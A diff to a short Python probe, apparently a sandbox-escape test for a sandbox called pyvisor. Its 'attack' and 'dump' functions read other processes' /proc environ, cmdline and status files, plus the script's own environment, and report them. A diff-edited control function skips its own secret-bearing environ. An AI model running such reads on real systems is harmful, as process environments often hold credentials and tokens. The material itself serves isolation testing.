@@ -7,10 +7,10 @@
 # audit: none
 import os, pvesc
 
-def dump(pids):
+def dump(pids, files=("environ", "cmdline", "status")):
     n = 0
     for p in pids:
-        for f in ("environ", "cmdline", "status"):
+        for f in files:
             try:
                 with open("/proc/%s/%s" % (p, f), "rb") as fh:
                     pvesc.out(p, f, fh.read(65536))
@@ -26,8 +26,8 @@ def attack(c):
     pvesc.out("environ", dict(os.environ))
 
 def twin(c):
-    # own environ may be hidden by design (pyvisor: sentry/procfs.c);
-    # own cmdline and status must be readable
-    return dump(["self", str(os.getpid())]) >= 4
+    # own cmdline and status must be readable (own environ is hidden by
+    # design in pyvisor, sentry/procfs.c, and carries the control's secret)
+    return dump(["self", str(os.getpid())], ("cmdline", "status")) == 4
 
 pvesc.main(attack, twin)
